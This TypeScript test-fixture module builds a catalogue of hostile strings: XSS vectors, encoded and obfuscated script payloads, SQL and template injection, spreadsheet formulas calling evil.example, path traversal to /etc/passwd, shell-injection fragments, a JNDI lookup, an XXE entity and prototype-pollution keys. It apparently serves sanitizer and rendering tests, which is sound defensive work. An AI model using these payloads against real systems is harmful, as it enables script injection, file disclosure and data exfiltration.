/**
 * Texts that ought to do harm, made from kinds of harm × ways of writing it. Those that would run call `pwned(n)`, by which
 * the test knows which one did; those that would ask for something ask `evil.example`.
 */
export interface HostileString {
  /** What it tries. */
  readonly kind: string;
  readonly text: string;
}

type Make = (call: string) => string;

const EVIL = "//evil.example/";
const upper = (text: string): string => text.toUpperCase();
const mixed = (text: string): string =>
  [...text].map((letter, place) => (place % 2 === 0 ? letter.toUpperCase() : letter)).join("");
const CASES = [(text: string): string => text, upper, mixed] as const;

/** Elements that run a handler without anybody's doing. */
const SELF_STARTERS = [
  ["img src=x", "onerror"],
  ["svg", "onload"],
  ["body", "onload"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["details open", "ontoggle"],
  ["marquee", "onstart"],
  ["object data=x", "onerror"],
  ["iframe", "onload"],
  ["style", "onload"],
  ["link rel=stylesheet href=x", "onerror"],
  ["script src=x", "onerror"],
  ["x tabindex=1 autofocus", "onfocus"],
  ["svg><animate attributeName=x", "onbegin"],
  ["video><source", "onerror"],
] as const;
/** Between an element's name and its attributes, and around a value. */
const GAPS = [" ", "/", "\t", "\n", "\f"] as const;
const QUOTES = ["", "'", '"'] as const;

function* elements(): Generator<Make> {
  for (const [element, handler] of SELF_STARTERS) {
    for (const write of CASES) {
      for (const quote of QUOTES) yield (call) => `<${write(element)} ${write(handler)}=${quote}${call}${quote}>`;
    }
    for (const gap of GAPS) yield (call) => `<${element.replace(" ", gap)}${gap}${handler}=${call}>`;
  }
}

function* scripts(): Generator<Make> {
  for (const write of CASES) {
    const script = write("script");
    for (const open of [`<${script}>`, `<${script}/x>`, `<${script}\n>`, `<${script} type=module>`]) {
      for (const close of [`</${script}>`, `</${script} >`, ""]) yield (call) => `${open}${call}${close}`;
    }
    yield (call) => `</${script}><${script}>${call}</${script}>`;
    yield (call) => `<scr<${script}>ipt>${call}</scr</${script}>ipt>`;
    yield (call) => `<svg><${script}>${call}</${script}></svg>`;
    yield (call) => `<!--><${script}>${call}</${script}-->`;
    yield (call) => `<![CDATA[<${script}>${call}</${script}>]]>`;
  }
  yield () => `<script src=${EVIL}a.js></script>`;
  yield () => `<base href=${EVIL}>`;
  yield () => `<meta http-equiv=refresh content="0;url=${EVIL}">`;
  yield () => `<iframe src=${EVIL}></iframe>`;
  yield () => `<form action=${EVIL}><button autofocus>go</button></form>`;
  yield () => `<a href=${EVIL} target=_top>x</a>`;
  yield (call) => `<iframe srcdoc="<script>parent.${call}</script>">`;
  yield (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`;
  yield (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`;
  yield (call) => `<template><script>${call}</script></template>`;
  yield (call) => `<svg><foreignObject><img src=x onerror=${call}></svg>`;
  yield (call) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/></svg>`;
}

/** Out of an attribute, a script's string, a comment, a style. */
function* breakouts(): Generator<Make> {
  for (const quote of ['"', "'", "`", " "]) {
    for (const handler of ["onfocus", "onmouseover", "onanimationend", "onpointerenter"]) {
      yield (call) => `${quote} autofocus ${handler}=${call} x=${quote}`;
    }
    for (const close of [">", "/>", "-->", "]]>", "*/"]) yield (call) => `${quote}${close}<img src=x onerror=${call}>`;
    for (const join of ["-", "+", ";", ","]) yield (call) => `${quote}${join}${call}${join}${quote}`;
  }
  for (const element of ["style", "title", "textarea", "noscript", "script", "template", "option", "select"]) {
    yield (call) => `</${element}><img src=x onerror=${call}>`;
  }
}

const SCHEMES = [
  "javascript:",
  "vbscript:",
  "data:text/html,<script>",
  "data:text/html;base64,",
  "view-source:",
] as const;
function* addresses(): Generator<Make> {
  for (const scheme of SCHEMES) {
    for (const write of CASES) yield (call) => `${write(scheme)}${call}`;
    for (const before of ["\t", "\u0001", " ", "\u00a0"]) yield (call) => `${before}${scheme}${call}`;
  }
  yield (call) => `java\tscript:${call}`;
  yield (call) => `java\nscript:${call}`;
  yield (call) => `javascript&colon;${call}`;
  yield (call) => `&#106;avascript:${call}`;
  yield (call) => `javascript://%0a${call}`;
  yield (call) => `<a href="javascript:${call}">x</a>`;
  yield (call) => `[x](javascript:${call})`;
  yield (call) => `![x](${EVIL}"onerror="${call})`;
  for (const address of [EVIL, `http:${EVIL}`, `\\\\evil.example\\x`, `/\\evil.example`, `https:evil.example`]) {
    yield () => address;
  }
}

/** The same in other letters: whoever decodes once too often is caught. */
const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&#60;").replaceAll(">", "&#62;"),
  (text) => text.replaceAll("<", "&#x3c").replaceAll(">", "&#x3e"),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (text) => text.replaceAll("<", "\\x3c").replaceAll(">", "\\x3e"),
  (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (text) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (text) => text.replaceAll("<", "%u003c").replaceAll(">", "%u003e"),
  (text) => text.replaceAll("<", "\u00bc").replaceAll(">", "\u00be"),
  (text) => btoa(text),
];
function* encoded(): Generator<Make> {
  for (const encode of ENCODINGS) {
    yield (call) => encode(`<img src=x onerror=${call}>`);
    yield (call) => encode(`<script>${call}</script>`);
    yield (call) => encode(`"><svg onload=${call}>`);
  }
}

const TEMPLATES = [
  "{{constructor.constructor('CALL')()}}",
  "{{CALL}}",
  "{{{CALL}}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant
  "${CALL}",
  "#{CALL}",
  "<%= CALL %>",
  "{% CALL %}",
  "[[CALL]]",
  "*{CALL}",
  "@{CALL}",
  "~{CALL}",
  "{CALL}",
  "$t(frame.skip)",
  "$t(refused, {'x': 'y'})",
  "{{reason}}",
  "{{author}} {{number}}",
  "{{name, uppercase}}",
  "{{- reason}}",
  "<strong>bold</strong>",
  "<since></since>",
  "<since/>",
  "<0>first</0>",
  "<1/>",
  "&lt;strong&gt;",
  "&amp;lt;b&amp;gt;",
  "%{CALL}",
  "{0}{1}{x.y}",
  "audit.word.enforce",
  "translation:frame.skip",
  "frame.skip",
  "policyHistory.value",
  "a:b",
  "a.b.c",
];
const STYLES = [
  "</style><script>CALL</script>",
  "x;background:url(//evil.example/)",
  "red;}*{display:none}",
  "expression(CALL)",
  "url(javascript:CALL)",
  "@import '//evil.example/x.css';",
  "-moz-binding:url(//evil.example/)",
  "behavior:url(#x)",
  "<style>*{display:none}</style>",
  "<link rel=stylesheet href=//evil.example/>",
  "style=position:fixed;inset:0;z-index:9999",
  "<div style=position:fixed;inset:0>over</div>",
];
const DIRECTIONS = ["\u202e", "\u202d", "\u202b", "\u2066", "\u2067", "\u2068", "\u061c", "\u200f"];
const UNSEEN = [
  "\u200b",
  "\u200c",
  "\u200d",
  "\u2060",
  "\ufeff",
  "\u00ad",
  "\u034f",
  "\u180e",
  "\u3164",
  "\ufff9",
  "\u{e0041}",
];
const CONTROLS = Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).concat([
  "\u007f",
  "\u0080",
  "\u0085",
  "\u009b",
  "\u2028",
  "\u2029",
  "\ud800",
  "\udc00",
  "\uffff",
  "\ufffe",
]);
const SIGHTS = [
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}",
  "\u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}",
  "\u{1f1f3}\u{1f1f1}\u{1f1e7}\u{1f1ea}",
  "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a",
  `Z${"\u0300\u0315\u031b\u0321\u0334".repeat(8)}`,
  "\u0645\u0631\u062d\u0628\u0627 <b>\u05e9\u05dc\u05d5\u05dd</b>",
  "\u{1d4d7}\u{1d4ee}\u{1d4f5}\u{1d4f5}\u{1d4f8}",
  "\ufdfa\ufdfd\u2a0c",
  "\u0e01\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47",
  "\u1160\u115f\u2800",
  "аpple.com",
  "İıſK",
];
const STATEMENTS = [
  "' OR 1=1--",
  '" OR ""="',
  "'; DROP TABLE messages;--",
  "1; SELECT pg_sleep(9)--",
  "' UNION SELECT * FROM keys--",
  "\\'; --",
  "%' AND '%'='",
  "_%",
  "a' || 'b",
  "/**/OR/**/1=1",
  "0x27204f522031",
  "') OR ('x'='x",
];
const FORMULAS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "@SUM(1,1)",
  "+1+1",
  "-1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\uff1d1+1",
  "\uff0b1+1",
  "\uff0d1+1",
  "\uff20SUM(1)",
  '=HYPERLINK("//evil.example","x")',
  '=IMPORTXML("//evil.example","//a")',
  '=WEBSERVICE("//evil.example")',
  '";=1+1',
  '",=1+1',
  '"\n=1+1',
  ";=1+1",
  "x;=1+1;",
  "|=1+1",
  "%0A=1+1",
  "+3161+1",
];
const FORMATS = [
  "%s%s%s%n",
  "%d%x%p",
  "%99999999s",
  "%(x)s",
  "{!r}",
  "{0.__class__}",
  "$1 $& $` $'",
  "$$",
  "$<name>",
  "\\1\\2",
  "%%",
  "%c %o",
  "!!python/object",
  "\\n\\r\\t\\0",
];
const NAMES = [
  ..."__proto__ constructor prototype toString valueOf hasOwnProperty __defineGetter__ __lookupSetter__ then length".split(
    " ",
  ),
  ..."isPrototypeOf toJSON name id key ref children className dangerouslySetInnerHTML style onClick default".split(" "),
  ..."null undefined NaN true false Infinity -0 1e309 0x10 012 [] {} [object_Object] arguments eval this".split(" "),
  "__proto__.polluted",
  "constructor.prototype.polluted",
  '{"__proto__":{"polluted":1}}',
  '{"$$typeof":"react.element"}',
  '{"dangerouslySetInnerHTML":{"__html":"<b>"}}',
  "all",
  "*",
  "null, null",
];
const SYSTEMS = [
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%2e%2e%2f%2e%2e%2f",
  "file:///etc/passwd",
  "/dev/null",
  "CON",
  "$(id)",
  "`id`",
  "| id",
  "; id",
  "&& id",
  "\r\nSet-Cookie: x=1",
  "\r\n\r\n<html>",
  "jndi:ldap://evil.example",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant
  "${jndi:ldap://evil.example/a}",
  '<?xml version="1.0"?>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
  "&y;",
  "*)(uid=*))(|(uid=*",
  "' or '1'='1",
  '{"$gt":""}',
  "()=>{}",
  "rules: [x]\n- y: !!z",
  "\u001b[31mred\u001b[0m",
  "\u001b]0;title\u0007",
  "%00",
  "#",
  "?a=b&c=d",
  "//",
  "\\",
  '"',
  "'",
  "`",
  "<",
  ">",
  "&",
  ",",
  ";",
  "|",
  "<!--",
  "-->",
];

function plain(kind: string, texts: readonly string[]): readonly HostileString[] {
  return texts.map((text) => ({ kind, text }));
}

function numbered(kind: string, makes: Iterable<Make>, from: number): readonly HostileString[] {
  return Array.from(makes, (make, index) => ({ kind, text: make(`pwned(${from + index})`) }));
}

const ofTexts = (texts: readonly string[]): readonly Make[] =>
  texts.map((text) => (call) => text.replaceAll("CALL", call));

/** Each once, in the order of their kinds. */
export const HOSTILE_STRINGS: readonly HostileString[] = [
  ...numbered("element", elements(), 1000),
  ...numbered("script", scripts(), 2000),
  ...numbered("breakout", breakouts(), 3000),
  ...numbered("address", addresses(), 4000),
  ...numbered("encoding", encoded(), 5000),
  ...numbered("template", ofTexts(TEMPLATES), 6000),
  ...numbered("style", ofTexts(STYLES), 7000),
  ...plain(
    "direction",
    DIRECTIONS.flatMap((mark) => [`${mark}cod.exe`, `a${mark}b`, `${mark}<b>${mark}`]),
  ),
  ...plain(
    "unseen",
    UNSEEN.flatMap((mark) => [`a${mark}b`, `${mark}x`, `java${mark}script:pwned(8000)`]),
  ),
  ...plain(
    "control",
    CONTROLS.flatMap((mark) => [`a${mark}b`, `<s${mark}cript>pwned(8001)</script>`]),
  ),
  ...plain("sight", SIGHTS),
  ...plain("statement", STATEMENTS),
  ...plain("formula", FORMULAS),
  ...plain("format", FORMATS),
  ...plain("name", NAMES),
  ...plain("system", SYSTEMS),
  ...plain("length", [
    "W".repeat(400),
    "\u0300".repeat(300),
    "<b>".repeat(150),
    "\u{1f600}".repeat(120),
    "a ".repeat(200),
  ]),
].filter(({ text }, place, all) => all.findIndex((other) => other.text === text) === place);

/** Two of three: for what is looked at one by one. */
export const MOST_OF_THEM: readonly HostileString[] = HOSTILE_STRINGS.filter((_, place) => place % 3 !== 0);
